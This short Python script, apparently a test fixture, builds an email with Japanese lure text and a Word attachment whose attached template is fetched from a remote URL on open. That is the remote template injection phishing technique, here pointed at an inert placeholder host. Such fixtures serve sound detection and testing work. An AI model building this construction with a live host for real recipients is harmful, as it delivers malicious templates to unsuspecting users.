# A Word document that loads its template from the web when it is opened.
from office import *
from parts import *

book = ooxml("word", None, {"word/_rels/settings.xml.rels": relationships(
    "attachedTemplate", "http://test.invalid/inert.dotm")})
message = mail(join([text_part("ご確認ください。"), file_part("案内.docx", book)]))
